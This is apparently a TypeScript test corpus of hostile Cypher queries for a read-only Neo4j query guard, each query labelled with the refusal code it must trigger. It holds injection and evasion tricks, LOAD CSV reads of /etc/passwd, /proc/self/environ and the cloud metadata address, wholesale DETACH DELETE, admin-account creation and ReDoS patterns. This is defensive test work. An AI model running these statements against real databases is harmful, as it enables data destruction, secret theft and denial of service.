/**
 * Statements of somebody who means harm, as data: each with the rule that must stop it. The families
 * are writing, hiding, administering, reaching outside, and wearing the server out.
 */

export interface HostileStatement {
  readonly family: string;
  readonly cypher: string;
  readonly parameters?: Readonly<Record<string, unknown>>;
  /** The code of the error; `answer` when the statement is harmless and may be answered. */
  readonly rule: string;
  /** On the embedded store, which has other means; the same where absent. `bounded`: answered or stopped at a limit. */
  readonly embedded?: string;
}

/** Stand for what the test puts up: a file that must not be read, an address that must not be called. */
export const FILE_URL = "file:///canary.csv";
export const ADDRESS = "http://127.0.0.1:CANARY/data.csv";

const all = (family: string, rule: string, statements: readonly string[], embedded?: string): HostileStatement[] =>
  statements.map((cypher) => ({ family, cypher, rule, ...(embedded !== undefined && { embedded }) }));

const WRITES = all("writing", "Refused.UpdatingClause", [
  "CREATE (n:Theory {id: 'theory:evil'})",
  "CREATE (n:Theory {id: 'theory:evil'}) RETURN n",
  "MATCH (a:Theory), (b:Theory) CREATE (a)-[:EVIL]->(b)",
  "MERGE (n:Theory {id: 'theory:evil'})",
  "MERGE (n:Theory {id: 'theory:evil'}) ON CREATE SET n.x = 1 ON MATCH SET n.y = 1",
  "MATCH (n:Theory) SET n.nameDe = 'evil'",
  "MATCH (n:Theory) SET n += {evil: true}",
  "MATCH (n:Theory) SET n = {}",
  "MATCH (n:Theory) SET n:Evil",
  "MATCH (n:Theory) REMOVE n.nameDe",
  "MATCH (n:Theory) REMOVE n:Theory",
  "MATCH (n) DELETE n",
  "MATCH (n) DETACH DELETE n",
  "MATCH (n) NODETACH DELETE n",
  "MATCH ()-[r]->() DELETE r",
  "MATCH (n:Theory) FOREACH (x IN [1] | SET n.x = x)",
  "MATCH (n:Theory) FOREACH (x IN [1] | CREATE (:Evil))",
  "MATCH p = (:Theory)-->(:Theory) FOREACH (n IN nodes(p) | DETACH DELETE n)",
  "UNWIND range(1, 10) AS x CREATE (:Evil {x: x})",
  "MATCH (n:Theory) WITH n LIMIT 1 SET n.evil = 1 RETURN n",
  "OPTIONAL MATCH (n:Nothing) CREATE (:Evil)",
  "RETURN 1 AS x UNION CREATE (n:Evil) RETURN 1 AS x",
  "MATCH (n:Theory) INSERT (:Evil)",
  "INSERT (:Evil)",
]);

const NESTED_WRITES = all("writing inside", "Refused.UpdatingClause", [
  "CALL { CREATE (n:Evil) }",
  "CALL { CREATE (n:Evil) RETURN n } RETURN n",
  "CALL () { CREATE (n:Evil) RETURN n } RETURN n",
  "MATCH (n:Theory) CALL { WITH n SET n.x = 1 }",
  "MATCH (n:Theory) CALL (n) { DETACH DELETE n }",
  "MATCH (n:Theory) CALL (n) { CALL (n) { SET n.x = 1 } }",
  "CALL { MERGE (n:Evil) RETURN 1 AS x UNION RETURN 2 AS x } RETURN x",
  "MATCH (n) WHERE EXISTS { CREATE (:Evil) } RETURN n",
  "RETURN COUNT { CREATE (:Evil) }",
  "RETURN COLLECT { CREATE (n:Evil) RETURN n }",
  "RETURN COLLECT { MATCH (n) SET n.x = 1 RETURN n }",
  "RETURN [x IN [1] | COUNT { MERGE (:Evil) }]",
  "WITH 1 AS x CALL (*) { CREATE (:Evil) RETURN 1 AS y } RETURN y",
]);

const HIDDEN_WRITES = [
  ...all("hidden", "Refused.UpdatingClause", [
    "/* MATCH (n) RETURN n */ CREATE (:Evil)",
    "RETURN 1 CREATE (:Evil)",
    "MATCH (n) RETURN n DELETE n",
    "CRE\\u0041TE (:Evil)",
    "\\u0043REATE (:Evil)",
    "// RETURN 1\nCREATE (:Evil)",
    "MATCH (n) /* RETURN n */ DETACH DELETE n",
    "MATCH (n)\n\t\r\n  SET\u00a0n.x = 1",
    "mAtCh (n) dElEtE n",
    "MATCH (n)DELETE n",
    "MATCH (n) WHERE n.id = 'x' /**/DETACH/**/DELETE/**/n",
    "   \n\n  CREATE (:Evil)",
    "\uFEFFCREATE (:Evil)",
    "MATCH (`DELETE`) DETACH DELETE `DELETE`",
    "MATCH (n) SET n.`x` = 1",
    "MATCH (n) WITH n AS `create` SET `create`.x = 1",
    "MATCH (n) RETURN n.x AS x UNION MATCH (n) DELETE n RETURN 1 AS x",
  ]),
  ...all("hidden", "SyntaxError.UnexpectedSyntax", [
    "ＣＲＥＡＴＥ (:Evil)",
    "CRE\u200BATE (:Evil)",
    "СREATE (:Evil)",
    "MATCH (n) DEL/**/ETE n",
    "EXECUTE 'CREATE (:Evil)'",
    "BEGIN CREATE (:Evil) COMMIT",
    ":param x => 1",
    ":begin",
  ]),
  ...all("hidden", "answer", [
    "RETURN '*/ CREATE (:Evil) /*' AS text",
    'RETURN "// \\n CREATE (:Evil)" AS text',
    "RETURN 'x\\' DETACH DELETE n //' AS text",
    "MATCH (n:`Theory) DETACH DELETE n //`) RETURN n",
    "RETURN 1 AS `x; MATCH (n) DETACH DELETE n`",
    "RETURN 1 // ; MATCH (n) DETACH DELETE n",
    "RETURN 1 /* ; MATCH (n) DETACH DELETE n */",
    "RETURN '\u202E CREATE (:Evil)' AS text",
  ]),
];

const SEVERAL = [
  ...all("several statements", "Refused.MultipleStatements", [
    "RETURN 1; MATCH (n) DETACH DELETE n",
    "RETURN 1;\nCREATE (:Evil);",
    "MATCH (n) RETURN n LIMIT 1; RETURN 2",
    "RETURN 1;;;CREATE (:Evil)",
    "RETURN ';'; CREATE (:Evil)",
    "RETURN 1; // \nCREATE (:Evil)",
  ]),
  ...all("several statements", "SyntaxError.UnexpectedSyntax", ["; CREATE (:Evil)", ";"]),
];

const OPTIONS = [
  ...all("options", "NotSupported.QueryOptions", [
    "CYPHER runtime=slotted RETURN 1",
    "CYPHER 25 RETURN 1",
    "CYPHER 5 CREATE (:Evil)",
    "CYPHER planner=dp MATCH (n) DETACH DELETE n",
    "CYPHER debug=tostring RETURN 1",
    "cypher expressionEngine=compiled RETURN 1",
  ]),
  ...all("options", "answer", ["EXPLAIN MATCH (n) RETURN n", "PROFILE MATCH (n) RETURN count(n)"]),
  ...all("options", "Refused.UpdatingClause", ["PROFILE CREATE (:Evil)", "EXPLAIN MATCH (n) DETACH DELETE n"]),
  ...all("options", "NotSupported.Hint", [
    "MATCH (n:Theory) USING INDEX n:Theory(id) WHERE n.id = 'x' RETURN n",
    "MATCH (n:Theory) USING SCAN n:Theory RETURN n",
    "MATCH (a:Theory)-->(b:Theory) USING JOIN ON b RETURN a",
    "MATCH (n:Theory) USING RANGE INDEX SEEK n:Theory(id) WHERE n.id = 'x' RETURN n",
  ]),
];

const OUTSIDE = [
  ...all("reaching outside", "Refused.LoadCsv", [
    `LOAD CSV FROM '${FILE_URL}' AS line RETURN line`,
    `LOAD CSV WITH HEADERS FROM '${FILE_URL}' AS line RETURN line`,
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'file:///../../../../etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'file:////proc/self/environ' AS line FIELDTERMINATOR '\\u0000' RETURN line",
    `LOAD CSV FROM '${ADDRESS}' AS line RETURN line`,
    `LOAD CSV WITH HEADERS FROM '${ADDRESS}' AS line RETURN line`,
    "LOAD CSV FROM 'http://169.254.169.254/latest/meta-data' AS line RETURN line",
    "LOAD CSV FROM 'ftp://127.0.0.1/x' AS line RETURN line",
    "LOAD CSV FROM 'jar:file:///x.jar!/y' AS line RETURN line",
    `MATCH (n:Theory) LOAD CSV FROM '${ADDRESS}?x=' + n.nameDe AS line RETURN line`,
    `CALL { LOAD CSV FROM '${FILE_URL}' AS line RETURN line } RETURN line`,
    `CALL () { LOAD CSV FROM '${ADDRESS}' AS line RETURN line } RETURN line`,
    `RETURN COLLECT { LOAD CSV FROM '${FILE_URL}' AS line RETURN line }`,
    `RETURN COUNT { LOAD CSV FROM '${ADDRESS}' AS line RETURN line }`,
    `MATCH (n) WHERE EXISTS { LOAD CSV FROM '${ADDRESS}' AS line RETURN line } RETURN n`,
    `load csv from '${FILE_URL}' as line return line`,
    `LOAD/**/CSV FROM '${FILE_URL}' AS line RETURN line`,
    `UNWIND ['a'] AS x LOAD CSV FROM $url AS line RETURN line`,
  ]),
  ...all("reaching outside", "Refused.PeriodicCommit", [
    `USING PERIODIC COMMIT 500 LOAD CSV FROM '${FILE_URL}' AS l CREATE (:Evil)`,
  ]),
  ...all("reaching outside", "SyntaxError.UnknownFunction", [
    "RETURN file()",
    "RETURN linenumber()",
    "RETURN genai.vector.encode('x', 'OpenAI', {})",
  ]),
  ...all("reaching outside", "Refused.Use", [
    "USE system MATCH (n) RETURN n",
    "USE neo4j MATCH (n) RETURN n",
    "USE graph.byName('system') RETURN 1",
    "CALL { USE system SHOW USERS }",
    "USE `system` SHOW DATABASES",
  ]),
];

const TRANSACTIONS = all("own transactions", "Refused.CallInTransactions", [
  "MATCH (n:Theory) CALL (n) { RETURN 1 AS x } IN TRANSACTIONS RETURN x",
  "MATCH (n:Theory) CALL { WITH n RETURN 1 AS x } IN TRANSACTIONS OF 1 ROWS RETURN x",
  "UNWIND range(1, 10) AS x CALL (x) { RETURN x AS y } IN 4 CONCURRENT TRANSACTIONS RETURN y",
  "UNWIND range(1, 10) AS x CALL (x) { RETURN x AS y } IN TRANSACTIONS ON ERROR CONTINUE REPORT STATUS AS s RETURN s",
]);
const WRITING_TRANSACTIONS = all("own transactions", "Refused.UpdatingClause", [
  "UNWIND range(1, 10) AS x CALL (x) { CREATE (:Evil) } IN TRANSACTIONS",
  "MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 10 ROWS",
]);

const PROCEDURES = [
  ...all("procedures", "ProcedureError.ProcedureNotFound", [
    "CALL dbms.killConnections(['bolt-1'])",
    "CALL dbms.killConnection('bolt-1')",
    "CALL dbms.killTransaction('neo4j-transaction-1')",
    "CALL dbms.killQuery('query-1')",
    "CALL dbms.listConnections()",
    "CALL dbms.listConfig()",
    "CALL dbms.listConfig('') YIELD name, value RETURN name, value",
    "CALL dbms.showCurrentUser()",
    "CALL dbms.components() YIELD versions RETURN versions",
    "CALL dbms.queryJmx('*:*')",
    "CALL dbms.setConfigValue('db.transaction.timeout', '0')",
    "CALL dbms.security.createUser('evil', 'evil', false)",
    "CALL dbms.security.listUsers()",
    "CALL dbms.security.changePassword('evil')",
    "CALL db.clearQueryCaches()",
    "CALL db.createLabel('Evil')",
    "CALL db.createProperty('evil')",
    "CALL db.createRelationshipType('EVIL')",
    "CALL db.create.setNodeVectorProperty(null, 'x', [1.0])",
    "CALL db.index.fulltext.createNodeIndex('evil', ['Theory'], ['id'])",
    "CALL db.index.fulltext.queryNodes('cluster_lineage_text', '*:*') YIELD node RETURN node",
    "CALL db.index.fulltext.drop('cluster_lineage_text')",
    "CALL db.awaitIndexes(100000)",
    "CALL db.checkpoint()",
    "CALL db.resampleOutdatedIndexes()",
    "CALL db.stats.collect('QUERIES')",
    "CALL db.stats.retrieveAllAnonymized('x')",
    "CALL tx.setMetaData({clusterLineage: 'commit'})",
    "CALL tx.getMetaData()",
    "CALL apoc.cypher.runWrite('CREATE (:Evil)', {})",
    "CALL apoc.load.json('http://127.0.0.1/')",
    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})",
    "CALL apoc.export.csv.all('x.csv', {})",
    "CALL apoc.util.sleep(100000)",
    "CALL gds.graph.drop('x')",
    "CALL `dbms`.`listConfig`()",
    "CALL /* db.labels */ dbms.listConfig()",
    "CALL { CALL dbms.listConfig() YIELD name RETURN name } RETURN name",
    "RETURN COLLECT { CALL dbms.listConfig() YIELD name RETURN name }",
    "MATCH (n) WHERE EXISTS { CALL dbms.killConnections(['x']) } RETURN n",
  ]),
  ...all("procedures", "SyntaxError.UnknownFunction", [
    "RETURN apoc.util.sha1(['x'])",
    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (:Evil)', {})",
    "RETURN apoc.load.json('http://127.0.0.1/')",
    "RETURN graph.names()",
    "RETURN graph.propertiesByName('neo4j')",
    "RETURN db.nameFromElementId('4:x:0')",
    "RETURN dbms.sleep(1)",
    "RETURN java.lang.Runtime.exec('id')",
    "RETURN `apoc.util.sleep`(100000)",
  ]),
];

const ADMINISTRATION = [
  ...all("administration", "Refused.Administration", [
    "CREATE USER evil SET PASSWORD 'evil-evil'",
    "CREATE OR REPLACE USER neo4j SET PASSWORD 'evil-evil'",
    "ALTER USER neo4j SET PASSWORD 'evil-evil'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "DROP USER neo4j",
    "RENAME USER neo4j TO evil",
    "CREATE DATABASE evil",
    "DROP DATABASE neo4j",
    "STOP DATABASE neo4j",
    "START DATABASE neo4j",
    "ALTER DATABASE neo4j SET ACCESS READ ONLY",
    "CREATE ROLE evil",
    "GRANT ROLE admin TO evil",
    "DENY READ {*} ON GRAPH * TO evil",
    "REVOKE ROLE admin FROM neo4j",
    "CREATE INDEX evil FOR (n:Theory) ON (n.kind)",
    "CREATE RANGE INDEX evil IF NOT EXISTS FOR (n:Theory) ON (n.kind)",
    "CREATE FULLTEXT INDEX evil FOR (n:Theory) ON EACH [n.kind]",
    "CREATE CONSTRAINT evil FOR (n:Theory) REQUIRE n.kind IS UNIQUE",
    "DROP INDEX cluster_lineage_text",
    "DROP CONSTRAINT cluster_lineage_theory_id IF EXISTS",
    "CREATE ALIAS evil FOR DATABASE neo4j",
    "ENABLE SERVER 'x'",
    "DEALLOCATE DATABASES FROM SERVER 'x'",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "TERMINATE TRANSACTION $id",
    "terminate transactions 'x' YIELD message RETURN message",
  ]),
  ...all("administration", "Refused.Show", [
    "SHOW TRANSACTIONS",
    "SHOW TRANSACTIONS YIELD transactionId, currentQuery RETURN currentQuery",
    "SHOW SETTINGS",
    "SHOW USERS",
    "SHOW CURRENT USER",
    "SHOW DATABASES",
    "SHOW PRIVILEGES",
    "SHOW INDEXES",
    "SHOW CONSTRAINTS",
    "SHOW PROCEDURES",
    "SHOW FUNCTIONS YIELD name RETURN name",
    "SHOW SERVERS",
    "SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id",
  ]),
];

const RANGES = all(
  "huge lists",
  "Refused.RangeTooLong",
  [
    "RETURN [x IN range(1, 100000000) | x]",
    "RETURN size([x IN range(1, 1000000000) WHERE x % 2 = 0])",
    "RETURN reduce(s = 0, x IN range(1, 2000000000) | s + x)",
    "RETURN reduce(s = 0, x IN range(1, 9223372036854775807) | s + x)",
    "RETURN range(0, 9223372036854775807)",
    "RETURN range(-9223372036854775808, 9223372036854775807, 3)",
    "RETURN range(100000000, 1, -1)[0..3]",
    "UNWIND range(1, 1000000000) AS x RETURN collect(x)",
    "RETURN all(x IN range(1, 1000000000) WHERE x > 0)",
    "RETURN range(1, 1000 * 1000 * 1000)",
    "WITH 1000000000 AS n RETURN range(1, n)",
    "WITH 10000 AS n WITH n * n AS m RETURN [x IN range(1, m) | x]",
    "MATCH (n) WITH count(*) AS c RETURN range(1, c * 1000000)",
    "MATCH (n:Reference) RETURN range(1, n.number * 100000000)",
    "RETURN range(1, toInteger('1000000000'))",
    "RETURN range(1, CASE WHEN true THEN 1000000000 ELSE 1 END)",
    "RETURN range(1, head([1000000000]))",
    "RETURN range(1, {n: 1000000000}.n)",
    "UNWIND [1000000000] AS n RETURN range(1, n)",
    "RETURN [x IN range(1, 100000) | range(1, 100000000)]",
  ],
  "bounded",
);

const GROWTH = [
  ...all(
    "growth",
    "Refused.ExpressionTooLong",
    [
      "RETURN [x IN range(1, 100000) | [y IN range(1, 100000) | y]]",
      "RETURN reduce(s = 0, x IN range(1, 100000) | s + reduce(t = 0, y IN range(1, 100000) | t + y))",
      "RETURN all(x IN range(1, 100000) WHERE any(y IN range(1, 100000) WHERE x < y))",
      "WITH range(1, 1000) AS r RETURN size([a IN r WHERE single(b IN r WHERE none(c IN r WHERE a + b + c < 0))])",
      "MATCH (n) WITH collect(n) AS a RETURN size([x IN a WHERE x IN a])",
      "MATCH (n), (m) WITH collect(n) AS a RETURN [x IN a | [y IN a | x.id + y.id]]",
      "MATCH (s:Sentence) WITH collect(s.text) AS t RETURN reduce(all = '', x IN t | all + x)",
      "RETURN reduce(s = 0, a IN range(1, 99999) | reduce(t = s, b IN range(1, 99999) | t + b))",
    ],
    "bounded",
  ),
  ...all(
    "growth",
    "Refused.ValueTooLarge",
    [
      "RETURN size(reduce(s = 'a', x IN range(1, 40) | s + s))",
      "RETURN size(reduce(s = [1], x IN range(1, 40) | s + s))",
      `WITH 'aaaaaaaaaa' AS s ${"WITH s + s AS s ".repeat(40)}RETURN size(s)`,
      `WITH [1, 2] AS s ${"WITH s + s + s AS s ".repeat(30)}RETURN size(s)`,
      `RETURN size(${"replace(".repeat(10)}'aaaaaaaaaa'${", 'a', 'aaaaaaaaaa')".repeat(10)})`,
      "RETURN reduce(m = {a: 1}, x IN range(1, 60) | {l: m, r: m})",
      "RETURN reduce(s = '', x IN range(1, 99999) | replace(s + 'a', 'a', 'aa'))",
      `WITH range(1, 1000) AS a ${"WITH [x IN a | a] AS a ".repeat(3)}RETURN a`,
    ],
    "bounded",
  ),
  ...all(
    "growth",
    "Refused.PatternTooSlow",
    [
      "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a+)+$'",
      "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a|a)*$'",
      "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a*)*b'",
      "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' =~ 'a*a*a*a*a*a*a*a*b'",
      "MATCH (s:Sentence) WHERE s.text =~ '([a-zA-Z ]+)*x' RETURN s",
      "MATCH (s:Sentence) WHERE s.text =~ '(.*.*)*x' RETURN s",
      "MATCH (s:Sentence), (t:Sentence) WHERE s.text =~ t.text RETURN s",
      "RETURN 'x' =~ ('(a' + '+)+')",
      "MATCH (s:Sentence) WHERE s.text =~ '(.)\\\\1*(.)\\\\2*x' RETURN s",
    ],
    "bounded",
  ),
];

const PATTERNS = all("exponential patterns", "bounded", [
  "MATCH (a), (b), (c), (d), (e) RETURN count(*)",
  "MATCH (a), (b), (c) WHERE a.id + b.id = c.id RETURN count(*)",
  "MATCH p = (a)-[*]-(b) RETURN count(p)",
  "MATCH p = (a:Theory)-[*1..20]-(b:Theory) RETURN p ORDER BY length(p) DESC LIMIT 1",
  "MATCH p = ((a)-->(b))+ RETURN count(p)",
  "MATCH p = (a:Theory) ((x)--(y)){1,30} (b:Theory) RETURN count(p)",
  "MATCH p = allShortestPaths((a:Theory)-[*]-(b:Claim)) RETURN count(p)",
  "MATCH p = ALL SHORTEST (a:Claim)--+(b:Claim) RETURN count(p)",
  "MATCH (a)--(b)--(c)--(d)--(e)--(f)--(g)--(h) RETURN count(*)",
  "MATCH (a), (b) WITH a, b ORDER BY a.id + b.id RETURN collect(a) AS l",
  "MATCH (a), (b), (c) RETURN collect(a.text + b.text + c.text) AS l",
  "MATCH (n) RETURN [(n)--(m) | [(m)--(o) | [(o)--(p) | [(p)--(q) | q.id]]]]",
  "MATCH (a), (b) RETURN a, b ORDER BY a.id DESC, b.id DESC",
  "MATCH (a), (b), (c) RETURN DISTINCT a.id + b.id + c.id AS x",
  "UNWIND range(1, 100000) AS x UNWIND range(1, 100000) AS y RETURN count(*)",
  "UNWIND range(1, 100000) AS x UNWIND range(1, 100000) AS y RETURN collect([x, y]) AS l",
  "MATCH (n) WHERE COUNT { MATCH (a), (b) } > 0 AND COUNT { (n)--()--()--()--()--() } > 5 RETURN count(n)",
  "UNWIND range(1, 1000) AS x CALL (x) { MATCH (a), (b) RETURN count(*) AS c } RETURN sum(c)",
  "MATCH (a), (b) WITH a LIMIT 3000000 RETURN collect(a) AS l",
]);

const SIZES = [
  ...all("deep and long", "LimitExceeded.NestingDepth", [
    `RETURN ${"(".repeat(5_000)}1${")".repeat(5_000)}`,
    `RETURN ${"[".repeat(1_000)}${"]".repeat(1_000)}`,
    `RETURN ${"{a: ".repeat(1_000)}1${"}".repeat(1_000)}`,
    `RETURN ${"NOT ".repeat(3_000)}true`,
    `RETURN ${"1 + ".repeat(3_000)}1`,
    `RETURN ${"CASE WHEN true THEN ".repeat(500)}1${" END".repeat(500)}`,
    `${"CALL { ".repeat(500)}RETURN 1 AS x${" } RETURN x".repeat(500)}`,
    `RETURN ${"size([".repeat(500)}1${"])".repeat(500)}`,
    `MATCH (n) WHERE ${"EXISTS { MATCH (n) WHERE ".repeat(300)}true${" }".repeat(300)} RETURN n`,
    `RETURN true${" OR false".repeat(3_000)}`,
  ]),
  ...all(
    "deep and long",
    "Refused.StatementTooLarge",
    [
      `RETURN [${"1,".repeat(40_000)}1]`,
      `MATCH ${Array.from({ length: 80 }, (_, index) => `(n${index})`).join("--")} RETURN count(*)`,
      `MATCH ${Array.from({ length: 100 }, (_, index) => `(n${index})`).join(", ")} RETURN count(*)`,
      `RETURN ${Array.from({ length: 12_000 }, (_, index) => `1 AS c${index}`).join(", ")}`,
    ],
    "bounded",
  ),
  ...all("deep and long", "SyntaxError.UnexpectedSyntax", [
    "x".repeat(99_000),
    "(".repeat(99_000),
    `RETURN ${"'a' ".repeat(20_000)}`,
  ]),
  ...all("deep and long", "answer", [
    `RETURN size('${"a".repeat(90_000)}') AS n`,
    `RETURN 1 // ${"x".repeat(90_000)}`,
    `RETURN 1 AS ${"x".repeat(9_000)}`,
  ]),
];

const PARAMETERS: readonly HostileStatement[] = [
  {
    family: "parameters",
    cypher: "MATCH (n {id: $id}) RETURN n",
    parameters: { id: "x'}) DETACH DELETE n //" },
    rule: "answer",
  },
  {
    family: "parameters",
    cypher: "RETURN $x AS x",
    parameters: { x: "'; MATCH (n) DETACH DELETE n; //" },
    rule: "answer",
  },
  {
    family: "parameters",
    cypher: "RETURN range(1, $n)",
    parameters: { n: 1_000_000_000 },
    rule: "Refused.RangeTooLong",
    embedded: "bounded",
  },
  {
    family: "parameters",
    cypher: "RETURN range($n.a, $n.b)",
    parameters: { n: { a: 1, b: 1_000_000_000 } },
    rule: "Refused.RangeTooLong",
    embedded: "bounded",
  },
  {
    family: "parameters",
    cypher: "RETURN $text =~ $pattern",
    parameters: { text: "a".repeat(40) + "!", pattern: "(a+)+$" },
    rule: "Refused.PatternTooSlow",
    embedded: "bounded",
  },
  {
    family: "parameters",
    cypher: "RETURN reduce(s = $s, x IN range(1, 100) | s + s)",
    parameters: { s: "aaaa" },
    rule: "Refused.ValueTooLarge",
    embedded: "bounded",
  },
  {
    family: "parameters",
    cypher: "RETURN size([x IN $l WHERE any(y IN $l WHERE x = -y)])",
    parameters: { l: Array.from({ length: 10_000 }, (_, index) => index + 1) },
    rule: "Refused.ExpressionTooLong",
    embedded: "bounded",
  },
  {
    family: "parameters",
    cypher: "MATCH (n:$($label)) RETURN n",
    parameters: { label: "Theory" },
    rule: "NotSupported.DynamicLabel",
  },
  {
    family: "parameters",
    cypher: "CALL $procedure()",
    parameters: { procedure: "dbms.listConfig" },
    rule: "SyntaxError.UnexpectedSyntax",
  },
  {
    family: "parameters",
    cypher: "$statement",
    parameters: { statement: "CREATE (:Evil)" },
    rule: "SyntaxError.UnexpectedSyntax",
  },
  { family: "parameters", cypher: "RETURN $absent", rule: "ParameterMissing.MissingParameter" },
  {
    family: "parameters",
    cypher: "RETURN $__proto__ AS p, $constructor AS c",
    rule: "ParameterMissing.MissingParameter",
  },
];

export const CORPUS: readonly HostileStatement[] = [
  ...WRITES,
  ...NESTED_WRITES,
  ...HIDDEN_WRITES,
  ...SEVERAL,
  ...OPTIONS,
  ...OUTSIDE,
  ...TRANSACTIONS,
  ...WRITING_TRANSACTIONS,
  ...PROCEDURES,
  ...ADMINISTRATION,
  ...RANGES,
  ...GROWTH,
  ...PATTERNS,
  ...SIZES,
  ...PARAMETERS,
];
